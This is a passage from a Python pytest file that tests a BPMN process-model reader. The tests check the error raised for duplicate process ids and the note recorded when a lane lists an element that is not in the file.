    one = ('<process id="p"><startEvent id="s"/><task id="{t}" name="{t}"/><endEvent id="e"/>'
           '<sequenceFlow id="f1" sourceRef="s" targetRef="{t}"/>'
           '<sequenceFlow id="f2" sourceRef="{t}" targetRef="e"/></process>')
    path.write_text(f'<definitions xmlns="{BPMN_NS}">\n{one.format(t="A")}\n'
                    f'{one.format(t="B")}\n</definitions>', encoding="utf-8")
    with pytest.raises(InputError) as caught:
        read_bpmn(path)
    assert caught.value.file == str(path) and caught.value.row == 3
    assert "process id 'p' is given to two processes (lines 2 and 3)" in caught.value.message


def test_a_lane_listing_no_element_of_the_file_is_noted(tmp_path: Path) -> None:
    """A lane's flowNodeRef naming no element of the file (a node deleted, an id mistyped)
    was passed over unsaid; the model's notes (`model inspect`) name the lane, the id and
    its line."""
    path = tmp_path / "lanes.bpmn"
    path.write_text(
        f'<definitions xmlns="{BPMN_NS}"><process id="p">\n'
        '<laneSet id="ls"><lane id="L1" name="Clerk"><flowNodeRef>A</flowNodeRef>\n'
        "<flowNodeRef>Task_Gone</flowNodeRef></lane></laneSet>\n"
        '<startEvent id="s"/><task id="A" name="A"/><endEvent id="e"/>'
        '<sequenceFlow id="f1" sourceRef="s" targetRef="A"/>'
        '<sequenceFlow id="f2" sourceRef="A" targetRef="e"/></process></definitions>',
        encoding="utf-8")
    model = read_bpmn(path)
    assert model.tasks["A"].roles == ("Clerk",)
    assert ("lane 'L1' ('Clerk') lists 'Task_Gone' (line 3), which is no element of the "
            "file: no node takes this lane from it") in model.notes
